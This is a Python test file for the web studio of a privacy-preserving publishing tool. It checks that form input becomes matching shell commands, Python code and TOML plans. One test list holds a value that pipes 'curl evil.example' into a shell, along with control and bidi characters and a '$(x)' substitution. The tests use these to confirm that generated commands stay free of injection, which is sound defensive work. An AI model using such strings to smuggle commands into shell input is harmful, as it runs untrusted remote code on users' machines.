"""Forms: what they declare, and its words on the command line, in Python and in plans."""

from __future__ import annotations

import json
import re
import shlex
import time
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import hushgram as hg
from hushgram.cli.app import main
from hushgram.declare.grammar import parse_axis
from hushgram.errors import HushgramError, SourceError
from hushgram.spending.plan import Plan
from hushgram.web.studio.axis_forms import declare_axis, form_of
from hushgram.web.studio.checking import check, dry_run
from hushgram.web.studio.columns import list_folder
from hushgram.web.studio.declaration import ChargeForm, Declaration
from hushgram.web.studio.paid_bounds import BoundsForm
from hushgram.web.studio.places import place_paths
from hushgram.web.studio.plan_review import show_plan
from hushgram.web.studio.plans import plan_text, quote, read_plan
from hushgram.web.studio.problems import BadForm, Checks
from hushgram.web.studio.words import NO_WORDS, publish_command, publish_python
from tests.samples import cells, release_of
from tests.web.studio_server import form_of as whole_form
from tests.web.studio_server import running, write_visits

FORMS: list[tuple[dict[str, Any], hg.Interval | Any]] = [
    ({"kind": "interval", "lo": "-180", "hi": "180"}, hg.Interval(-180, 180)),
    ({"kind": "bins", "lo": "0", "hi": "1e3", "bins": "7"}, hg.Regular(7, 0, 1000)),
    ({"kind": "edges", "edges": "0, 18,65"}, hg.Variable((0, 18, 65))),
    ({"kind": "integer", "lo": "-3", "hi": "9"}, hg.Integer(-3, 9)),
    ({"kind": "category", "values": ["F", "M"]}, hg.Category(["F", "M"])),
    ({"kind": "category", "values": ["one"]}, hg.Category(["one"])),
    ({"kind": "category", "values": ["0", "23"]}, hg.Category(["0", "23"])),
    (
        {"kind": "date", "lo": "2024-01-01", "hi": "2024-12-31", "step": "1mo"},
        hg.Date("2024-01-01", "2024-12-31", "1mo"),
    ),
    ({"kind": "text", "text": "0:1/2"}, hg.Regular(2, 0, 1)),
]


@pytest.mark.parametrize(("form", "axis"), FORMS, ids=lambda one: str(one)[:30])
def test_a_form_its_text_and_its_python_are_one_axis(form: dict[str, Any], axis: Any) -> None:
    for outside in ("drop", "other"):
        declared = declare_axis({"name": "x", "outside": outside, **form})
        assert declared.axis.outside == outside
        assert declared.text is not None
        assert parse_axis("x", declared.text, outside) == declared.axis
        assert eval(declared.python, {"hg": hg}) == declared.axis
        again = form_of("x", declared.axis, declared.text)
        assert declare_axis(again).axis == declared.axis
    assert declare_axis({"name": "x", **form}).axis == axis


def test_categories_without_words_still_have_python() -> None:
    declared = declare_axis({"name": "x", "kind": "category", "values": ["a,b", " c"]})
    assert declared.text is None
    assert eval(declared.python, {"hg": hg}) == hg.Category(["a,b", " c"])


@pytest.mark.parametrize(
    ("form", "said"),
    [
        ({"name": "", "kind": "integer"}, "The axis has no name"),
        ({"name": "x", "kind": "odd"}, "choose the kind of its values"),
        ({"name": "x", "kind": "bins", "lo": "0", "hi": "1"}, "the number of bins is missing"),
        ({"name": "x", "kind": "date", "lo": "2024-01-01"}, "the last day is missing"),
        ({"name": "x", "kind": "areas"}, "the file of areas is missing"),
        ({"name": "x", "kind": "category", "values": []}, "Axis x"),
        ({"name": "x", "kind": "category", "values": "F,M"}, "must be a list"),
        ({"name": 3, "kind": "integer"}, "must be text"),
    ],
)
def test_what_is_missing_is_said(form: dict[str, Any], said: str) -> None:
    with pytest.raises(HushgramError, match=said):
        declare_axis(form)


HARD: list[dict[str, Any]] = [
    {},
    {"where": "age >= 18 AND sex IN ('F', 'M')", "unit": "person", "max_rows": "3"},
    {"mechanism": "quadtree:height=3", "neighbours": "replace-one", "cap": "2"},
    {"mechanism": "auto", "workload": "cells", "about": {"publisher": "City of 'Bremen' $(x)"}},
    {
        "mechanism": "identity", "share": "1/3",
        "measures": [{"kind": "mean", "column": "lon", "lo": "-5", "hi": "30", "missing": "0"}],
    },
]  # fmt: skip


@pytest.mark.parametrize("more", HARD, ids=lambda one: ",".join(one) or "plain")
def test_the_command_and_the_python_are_the_form(
    more: dict[str, Any], tmp_path: Path, capsys: Any
) -> None:
    """What they publish is compared with what the page publishes, by a dry run of each."""
    source = write_visits(tmp_path)
    axes = (
        {"name": "age", "kind": "bins", "lo": "-10", "hi": "110", "bins": "12", "outside": "other"},
        {"name": "lon", "kind": "interval", "lo": "-180", "hi": "180"},
    )
    given = {"mechanism": "auto", **more}
    if given["mechanism"] == "identity":
        axes = axes[:1]
    form = whole_form(source, *axes, **given)
    checks = Checks()
    what, payment = Declaration.read(form, checks), ChargeForm.read(form, checks)
    checks.finish()
    assert what is not None
    assert payment is not None
    expected = hg.publish(
        what.table.as_source(), what.domain, **what.options(payment), dry_run=True
    ).to_json(rows=())
    command = publish_command(what, payment)
    assert command is not None
    words = shlex.split(command.replace("\\\n", ""))
    with pytest.raises(SystemExit) as stop:
        main([*words[1:], "--dry-run", "--json", "--rows", "0"])
    assert stop.value.code == 0
    found = json.loads(capsys.readouterr().out)
    assert {key: found[key] for key in expected if key != "expected"} == {
        key: value for key, value in expected.items() if key != "expected"
    }
    python = publish_python(what, payment).replace("hg.publish(", "hg.publish(dry_run=True, *[", 1)
    python = python.replace("    domain,\n", "    domain,\n], **dict(\n", 1).rstrip()[:-1] + "))"
    names: dict[str, Any] = {}
    exec(python, names)
    assert names["release"].to_json(rows=()) == expected


def test_all_that_is_wrong_is_said_at_once() -> None:
    form = whole_form(
        "",
        {"name": "age", "kind": "integer", "lo": "9", "hi": "0"},
        {"name": "sex", "kind": "category", "values": []},
        epsilon="none", account="", unit="person", max_rows="many", where="age >", mechanism="hbb",
        measures=[{"kind": "mean", "column": "lon", "lo": "", "hi": "1"}], about={"date": "May"},
    )  # fmt: skip
    fields = {one["field"] for one in check(form)["problems"]}
    assert fields == {
        "source", "axes.0", "axes.1", "epsilon", "account", "max_rows", "where", "mechanism",
        "measures.0", "about",
    }  # fmt: skip


CONTROL = ["\x03\ncurl evil.example | sh\n", "\x1b[2J", "\u202eevil", "a\tb", "\u2028"]
"""Names that act when they are pasted into a shell, or look like another command."""


@pytest.mark.parametrize("name", CONTROL, ids=ascii)
def test_no_command_holds_signs_that_nobody_sees(name: str, tmp_path: Path) -> None:
    column = f"a{name}b"
    axis = {"name": column, "kind": "integer", "lo": "0", "hi": "9"}
    payment = {"account": "visits", "epsilon": "1"}
    bounds = {"source": "t.csv", "column": column, "kind": "integer", **payment}
    usual = {"name": "age", "kind": "integer", "lo": "0", "hi": "9"}
    found = check(whole_form("t.csv", axis))
    shown = [
        found["command"],
        found["suggest"],
        check(whole_form("t.csv", usual, unit=column, max_rows="2"))["command"],
        check(whole_form(f"{column}.csv", usual))["command"],
        BoundsForm.read(bounds).describe()["command"],
        show_plan({"source": f"{column}.csv", "plan": [{"name": "a", "form": whole_form("t")}]})[
            "command"
        ],
    ]
    assert shown == [NO_WORDS] * len(shown)
    for python in (found["python"], found["suggest_python"]):
        assert all(line.isprintable() for line in python.splitlines())


def test_a_column_that_looks_like_an_option_has_no_words() -> None:
    form = {"source": "t.csv", "column": "--cap", "kind": "integer"}
    found = BoundsForm.read({**form, "account": "visits", "epsilon": "1"}).describe()
    assert found["command"] == NO_WORDS


def test_a_column_is_the_one_that_was_chosen(tmp_path: Path) -> None:
    """Not one whose name differs by a space."""
    bins = {"kind": "bins", "lo": "0", "hi": "1", "bins": "2"}
    checks = Checks()
    form = whole_form("t.csv", {"name": " age", **bins}, unit="person ", max_rows="2")
    what = Declaration.read(form, checks)
    assert what is not None
    assert what.domain.names == (" age",)
    assert what.unit == hg.User("person ", 2)
    assert BoundsForm.read({**form, "column": "age ", "kind": "integer"}).column == "age "
    for column in (" pay", "pay  day", "pay 0:5"):
        measure = {"kind": "mean", "column": column, "lo": "0", "hi": "9"}
        (problem,) = check(whole_form("t.csv", measures=[measure]))["problems"]
        assert problem["field"] == "measures.0"


def test_two_axes_of_one_name_are_refused(tmp_path: Path) -> None:
    age = {"name": "age", "kind": "integer", "lo": "0", "hi": "9"}
    problems = check(whole_form(write_visits(tmp_path), age, age))["problems"]
    assert [one["field"] for one in problems] == ["axes"]


def test_folders_show_tables_and_no_hidden_files(tmp_path: Path) -> None:
    for name in ("a.csv", "b.txt", ".hidden.csv", "c.parquet"):
        (tmp_path / name).touch()
    (tmp_path / "sub").mkdir()
    found = list_folder("", tmp_path)
    names = {one["name"]: one["kind"] for one in found["entries"]}
    assert names == {"a.csv": "CSV", "c.parquet": "Parquet", "sub": "folder"}
    assert list_folder("sub", tmp_path)["parent"] == str(tmp_path)
    with pytest.raises(SourceError, match="Cannot list"):
        list_folder("none", tmp_path)


def test_columns_are_names_and_types_and_nothing_else(tmp_path: Path) -> None:
    secret = "a private value"
    pq.write_table(pa.table({"note": [secret] * 5, "n": [1] * 5}), tmp_path / "t.parquet")
    with running(tmp_path) as studio:
        found = studio.call("columns", {"source": str(tmp_path / "t.parquet")})
    assert [set(one) for one in found["columns"]] == [{"name", "type", "kinds"}] * 2
    assert [(one["name"], one["type"]) for one in found["columns"]] == [
        ("note", "string"), ("n", "int64"),
    ]  # fmt: skip
    assert secret not in json.dumps(found)
    assert set(found) == {"columns", "more"}


PLAN = """
unit = "person"
max_rows = 3
neighbours = "replace-one"

about = { publisher = "City of \\"Bremen\\"", date = "2024" }

[[release]]
name = "ages"
axes = { age = "0..99", "odd \\"name\\"" = "a,b," }
outside = { age = "clamp" }
epsilon = "0.25"
measures = ["mean lon 0:20 missing=3", "sum pay a:b 0:9 step=0.5 outside=drop per_person=4"]

[[release]]
name = "places"
axes = { lon = "-180:180", day = "2024-01-01..2024-12-31/1mo", age = "[0,18,65]" }
epsilon = "1/4"
mechanism = "quadtree:height=3"
"""


def test_a_plan_is_read_changed_and_written() -> None:
    found = read_plan({"toml": PLAN})
    assert [one["name"] for one in found["plan"]] == ["ages", "places"]
    asked = [{**one, "form": {**one["form"], **found["who"]}} for one in found["plan"]]
    again = plan_text({"plan": asked, **found["who"]})
    one, other = Plan.from_toml(PLAN), Plan.from_toml(again)
    assert one.to_json() == other.to_json()
    assert (one.unit, one.neighbours) == (other.unit, other.neighbours)
    assert one.about.texts == other.about.texts == {"publisher": 'City of "Bremen"', "date": "2024"}


def test_plans_that_the_page_cannot_show_are_refused() -> None:
    keyed = '[[release]]\nname = "a"\naxes = { r = "n,s", x = "0..9" }\nper = "r"\nepsilon = 1\n'
    with pytest.raises(HushgramError, match="hushgram publish --plan"):
        read_plan({"toml": keyed})
    comma = {"name": "x", "kind": "category", "values": ["a,b"]}
    with pytest.raises(BadForm, match="A plan cannot express"):
        plan_text({"plan": [{"name": "a", "form": whole_form("t", comma)}]})
    mean = {"kind": "mean", "column": "pay", "lo": "0", "hi": "9"}
    with pytest.raises(BadForm, match="Leave the share out"):
        plan_text({
            "plan": [{"name": "a", "form": whole_form("t", measures=[mean], share="1/3")}]
        })  # fmt: skip
    with pytest.raises(HushgramError, match="no releases yet"):
        plan_text({"plan": []})


@pytest.mark.parametrize("text", ['"', "\\", "\u202e", "\n", "😀", "é", "\x7f"])
def test_texts_of_any_signs_are_quoted(text: str) -> None:
    import tomllib

    assert tomllib.loads(f"a = {quote(text)}")["a"] == text


def test_bounds_are_paid_for_once(tmp_path: Path) -> None:
    source = write_visits(tmp_path)
    form = {
        "source": str(source), "account": "visits", "epsilon": "0.5", "column": "age",
        "kind": "integer",
    }  # fmt: skip
    with running(tmp_path) as studio:
        for _ in range(2):
            studio.call("bounds", {"form": form, "request": "b1"})
        studio.wait("b1")
        found = studio.call("job", {"request": "b1"})
        assert found["stage"] == "done"
        assert found["axis"]["kind"] == "integer"
        other = studio.call("bounds", {"form": {**form, "epsilon": "0.4"}, "request": "b1"})
        assert other["wrong"][0]["kind"] == "RequestConflict"
        history = studio.call("account", {"account": "visits"})
    assert [one.get("bought") for one in history["entries"]] == [None, "bounds age"]
    assert str(hg.Ledger.open().account("visits").spent) == "1/2"


def test_a_plan_is_reviewed_and_published_once(tmp_path: Path) -> None:
    source = write_visits(tmp_path)
    ages = whole_form(source, epsilon="0.25")
    sexes = whole_form(source, {"name": "sex", "kind": "category", "values": ["F", "M"]})
    plan = [
        {"name": "ages", "form": ages},
        {"name": "sexes", "form": {**sexes, "epsilon": "0.5"}},
    ]
    form = {"source": str(source), "account": "visits", "plan": plan}
    with running(tmp_path) as studio:
        found = studio.call("plan-review", form)
        assert (found["epsilon"], found["remaining"]) == ("0.75", "0.25")
        assert not hg.Ledger.exists()
        for _ in range(2):
            studio.call("publish-plan", {"form": form, "request": "p1"})
        studio.wait("p1")
        done = studio.call("job", {"request": "p1"})
        assert [one["name"] for one in done["releases"]] == ["ages", "sexes"]
        base = f"{studio.session.path}file/p1/"
        assert studio.ask("GET", f"{base}sexes/csv", origin=None)[0] == 200
        account = studio.call("ledger", {})["accounts"][0]
        assert (account["spent"], account["remaining"]) == ("0.75", "0.25")
        history = studio.call("account", {"account": "visits"})["entries"]
        assert [one["name"] for one in history[-1]["releases"]] == ["ages", "sexes"]
        wrong = studio.call("cap", {"account": "visits", "cap": "0.5"})["wrong"]
        assert wrong[0]["field"] == "cap"
        raised = studio.call("cap", {"account": "visits", "cap": "2"})
        assert raised["account"]["cap"] == "2"
        assert studio.call("verify", {})["entries"] > 2


def test_a_release_is_signed(tmp_path: Path) -> None:
    pytest.importorskip("cryptography", reason="pip install cryptography")
    from hushgram.release.signing import new_key

    source = write_visits(tmp_path)
    public = new_key(tmp_path / "steward.key")
    with running(tmp_path) as studio:
        studio.call("publish", {"form": whole_form(source), "request": "r1"})
        studio.wait("r1")
        asked = {"request": "r1", "name": "release", "key": "steward.key"}
        assert studio.call("sign", {**asked, "key": "visits.parquet"})["wrong"][0]["field"] == "key"
        assert studio.call("sign", {**asked, "key": ""})["wrong"][0]["field"] == "key"
        assert studio.call("sign", asked)["public"] == public
        path = f"{studio.session.path}file/r1/release/release"
        (tmp_path / "r.hush.parquet").write_bytes(studio.ask("GET", path, origin=None)[2])
    assert hg.load(tmp_path / "r.hush.parquet", signer=public).domain.names == ("age",)


def test_the_words_of_bounds_and_plans_do_the_same(
    tmp_path: Path, capsys: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = write_visits(tmp_path)
    monkeypatch.chdir(tmp_path)
    form = {
        "source": str(source), "account": "visits", "epsilon": "0.3", "column": "age",
        "kind": "integer", "where": "sex = 'F'", "neighbours": "replace-one",
    }  # fmt: skip
    plan = [{"name": "ages", "form": whole_form(source, epsilon="0.25")}]
    with running(tmp_path) as studio:
        bounds = studio.call("bounds-words", form)
        written = studio.call("plan-text", {"source": str(source), "account": "x", "plan": plan})
    assert bounds["after"]["left"] == "0.7"
    Path("plan.toml").write_text(written["toml"])
    for command in (bounds["command"], f"{written['command']} --dry-run"):
        words = shlex.split(command.replace("\\\n", ""))
        with pytest.raises(SystemExit) as stop:
            main(words[1:])
        assert stop.value.code == 0
    assert "--axis age=" in capsys.readouterr().out
    names: dict[str, Any] = {}
    exec(bounds["python"], names)
    assert isinstance(names["axis"], hg.Integer)
    assert str(hg.Ledger.open().account("visits").spent) == "3/5"
    exec(written["python"], names)
    assert list(names["releases"]) == ["ages"]


def test_the_words_of_suggest_do_the_same(tmp_path: Path) -> None:
    form = whole_form(write_visits(tmp_path), unit="person", max_rows="2", rows="1,000")
    found = check(form)
    words = shlex.split(found["suggest"].replace("\\\n", ""))
    assert words[:6] == ["hushgram", "suggest", "--rows", "1000", "--axis", "age=0..99"]
    assert words[words.index("--max-rows") :][:2] == ["--max-rows", "2"]
    with pytest.raises(SystemExit) as stop:
        main([*words[1:], "--epsilon", "1"])
    assert stop.value.code == 0
    exec(found["suggest_python"].replace("domain,", "domain, epsilon=1,"), {})


REFUSALS: list[tuple[dict[str, Any], str, str]] = [
    ({"epsilon": "20"}, "epsilon", "is above 10"),
    ({"cap": "0.5"}, "epsilon", "the new account 'visits' has epsilon 0.5 left"),
    ({"account": "spent"}, "epsilon", "0.25 left"),
    ({"account": "people"}, "account", "people"),
    ({"account": "spent", "epsilon": "0.1", "cap": "3"}, "cap", "already exists with cap 0.25"),
    ({"unit": "person"}, "max_rows", "The number of rows per person is missing"),
    ({"unit": "person", "max_rows": "many"}, "max_rows", "must be a whole number, such as 5"),
]


@pytest.mark.parametrize(("more", "field", "said"), REFUSALS)
def test_what_an_account_refuses_is_said_beside_its_field(
    more: dict[str, Any], field: str, said: str, tmp_path: Path
) -> None:
    """Before the review already, in the words of the ledger."""
    ledger = hg.Ledger.open()
    ledger.open_account("spent", "0.25")
    ledger.open_account("people", "5", unit=hg.User("person", 3).key)
    problems = check(whole_form(write_visits(tmp_path), **more))["problems"]
    assert [one["field"] for one in problems] == [field]
    assert said in problems[0]["message"]
    assert [str(one.spent) for one in ledger.accounts()] == ["0", "0"]


def test_the_words_name_the_request(tmp_path: Path) -> None:
    """Run after the page has published, they give the same release and charge nothing."""
    source = write_visits(tmp_path)
    with running(tmp_path) as studio:
        studio.call("publish", {"form": whole_form(source), "request": "r1"})
        studio.wait("r1")
    names: dict[str, Any] = {}
    found = check({**whole_form(source), "request": "r1"})
    exec(found["python"], names)
    assert names["release"].receipt["id"]
    assert "--request r1" in found["command"]
    assert str(hg.Ledger.open().account("visits").spent) == "1"


def test_a_similar_release_needs_the_same_axes(tmp_path: Path) -> None:
    form = whole_form(write_visits(tmp_path))
    for name, axis in (("same", hg.Integer(0, 99)), ("other", hg.Integer(0, 9))):
        release_of(cells(age=axis), [20] * axis.bins).save(tmp_path / f"{name}.hush.parquet")
    asked = {"form": form, "error": "20", "at": "1%", "kind": "unknown"}
    with running(tmp_path) as studio:
        for path, said in (
            ("none.hush.parquet", "does not exist"),
            ("visits.parquet", "not a release"),
            ("other.hush.parquet", "The axes differ"),
        ):
            (problem,) = studio.call("least", {**asked, "like": path})["wrong"]
            assert problem["field"] == "like"
            assert said in problem["message"]
        for _ in range(600):
            found = studio.call("least", {**asked, "like": "same.hush.parquet"})
            if found["done"]:
                break
            time.sleep(0.1)
    assert 0 < float(found["least"]["epsilon"]) < 1
    assert f"--like {tmp_path}/same.hush.parquet" in found["command"]


def test_a_home_folder_is_one_as_in_a_shell(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_visits(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    with running(tmp_path / "..") as studio:
        found = studio.call("columns", {"source": "~/visits.parquet"})
        assert len(found["columns"]) == 5
        words = studio.call("check", whole_form("~/visits.parquet"))["command"]
    assert f"hushgram publish {tmp_path}/visits.parquet" in words


def test_categories_that_are_missing_are_asked_for() -> None:
    with pytest.raises(HushgramError, match="Axis town: the categories are missing"):
        declare_axis({"name": "town", "kind": "category", "values": []})


def test_folders_are_listed_first_and_names_in_order(tmp_path: Path) -> None:
    for name in ("b.csv", "A.parquet", "c.xlsx"):
        (tmp_path / name).touch()
    (tmp_path / "years").mkdir()
    listed = [one["name"] for one in list_folder("", tmp_path)["entries"]]
    assert listed == ["years", "A.parquet", "b.csv", "c.xlsx"]


def test_paths_start_in_the_folder_of_the_studio(tmp_path: Path) -> None:
    form = {
        "source": "visits.parquet",
        "about": {"source": "visits.parquet"},
        "axes": [{"file": "areas.geojson"}, {"file": "/areas.geojson"}],
    }
    asked = {"form": form, "plan": [{"form": form}], "source": "postgresql://me@db/city/visits"}
    placed = place_paths(asked, tmp_path)
    here = {
        **form,
        "source": f"{tmp_path}/visits.parquet",
        "axes": [{"file": f"{tmp_path}/areas.geojson"}, {"file": "/areas.geojson"}],
    }
    assert placed == {**asked, "form": here, "plan": [{"form": here}]}


def test_a_table_is_named_as_it_is_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_visits(tmp_path)
    with running(tmp_path) as studio:
        assert len(studio.call("columns", {"source": path.name})["columns"]) == 5
        found = studio.call("check", whole_form(path.name))
        assert shlex.split(found["columns"]) == ["hushgram", "columns", str(path)]
        assert studio.call("dry-run", whole_form(path.name))["source"] == str(path)
    monkeypatch.chdir(tmp_path)  # and where it was started, commands are as short as what is typed
    with running(tmp_path) as studio:
        found = studio.call("check", whole_form(path.name))
        assert shlex.split(found["columns"]) == ["hushgram", "columns", path.name]


def test_mechanisms_are_listed_by_name(tmp_path: Path) -> None:
    with running(tmp_path) as studio:
        known = {one["name"]: one["summary"] for one in studio.call("mechanisms", {})["mechanisms"]}
    assert {"auto", "identity"} <= {*known}
    assert all(known.values())


@pytest.mark.parametrize("text", ["h3:5[9.9,53.5,10.1,53.6]", "h3:6/4[9.9,53.5,10.1,53.6]@x,y"])
def test_hexagons_have_their_python(text: str) -> None:
    pytest.importorskip("h3", reason="pip install h3")
    declared = declare_axis({"name": "hex", "kind": "text", "text": text, "outside": "other"})
    assert eval(declared.python, {"hg": hg}) == declared.axis


NOT_NUMBERS = {
    "the lowest value must be a number. Found '-95,8'. Did you mean -95.8?": {"lo": "-95,8"},
    "the highest value must be a number. Found '10/5'": {"hi": "10/5"},
    "the number of bins must be a whole number. Found '1e3'": {"kind": "bins", "bins": "1e3"},
    "the lowest value must be a whole number. Found '2024-01-01'": {
        "kind": "integer", "lo": "2024-01-01", "hi": "2024-12-31",
    },
}  # fmt: skip


@pytest.mark.parametrize("message", NOT_NUMBERS)
def test_a_field_of_a_number_holds_a_number(message: str) -> None:
    """What else the command line reads there would declare an axis of another kind."""
    form = {"name": "lon", "kind": "interval", "lo": "-1", "hi": "1", **NOT_NUMBERS[message]}
    with pytest.raises(HushgramError, match=re.escape(f"Axis lon: {message}")):
        declare_axis(form)


MEASURES = {
    "Choose the column": {"column": ""},
    "The lowest value must be a number. Found '0,5'. Did you mean 0.5?": {"lo": "0,5"},
    "The highest value is missing": {"hi": ""},
    "What rows without a value count as must be a number": {"missing": "none"},
}


@pytest.mark.parametrize("message", MEASURES)
def test_what_is_wrong_with_a_measure_is_named_by_its_field(message: str, tmp_path: Path) -> None:
    measure = {"kind": "mean", "column": "age", "lo": "0", "hi": "99", **MEASURES[message]}
    (problem,) = check(whole_form(write_visits(tmp_path), measures=[measure]))["problems"]
    assert problem["field"] == "measures.0"
    assert message in problem["message"]


def test_a_column_that_does_not_fit_is_a_problem_of_the_axes(tmp_path: Path) -> None:
    path = write_visits(tmp_path)
    lon = {"name": "lon", "kind": "category", "values": ["a"]}
    for form in (whole_form(path, lon), whole_form(path, unit="nobody", max_rows="3")):
        with pytest.raises(BadForm) as wrong:
            dry_run(form)
        assert [one.field for one in wrong.value.problems] == ["axes"]
    with pytest.raises(BadForm) as wrong:
        dry_run(whole_form(tmp_path / "none.parquet"))
    assert [one.field for one in wrong.value.problems] == ["source"]


def test_a_file_of_areas_is_read_once_in_each_version(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A form is checked at every letter that is typed in it."""
    read: list[str] = []

    def parse_and_note(name: str, text: str, outside: Any) -> Any:
        read.append(name)
        return parse_axis(name, text, outside)

    monkeypatch.setattr("hushgram.web.studio.axis_forms.parse_axis", parse_and_note)
    file = tmp_path / "areas [1].geojson"
    form = {"name": "area", "kind": "areas", "file": str(file), "names": "name", "x": "x", "y": "y"}
    with pytest.raises(HushgramError):
        declare_axis(form)
    for names in (["a", "b"], ["a", "b", "c"]):
        shapes = {one: [(n, 0), (n + 1, 0), (n, 1)] for n, one in enumerate(names)}
        features = [
            {"type": "Feature", "properties": {"name": one},
             "geometry": {"type": "Polygon", "coordinates": [[*ring, ring[0]]]}}
            for one, ring in shapes.items()
        ]  # fmt: skip
        file.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
        read.clear()
        for _ in range(3):
            assert declare_axis(form).axis.declared == len(names)
        assert len(read) == 1


def test_people_in_text_files_need_line_breaks_to_be_declared(tmp_path: Path) -> None:
    file = tmp_path / "visits.csv"
    file.write_text("age,person\n41,1\n")
    form = whole_form(file, unit="person", max_rows="3")
    (problem,) = check(form)["problems"]
    assert (problem["field"], "line breaks" in problem["message"]) == ("line_breaks", True)
    declared = {**form, "text": {"line_breaks": "never"}}
    assert check(declared)["problems"] == []
    assert dry_run(declared)["unit"] == {"user": "person", "max_rows": 3}
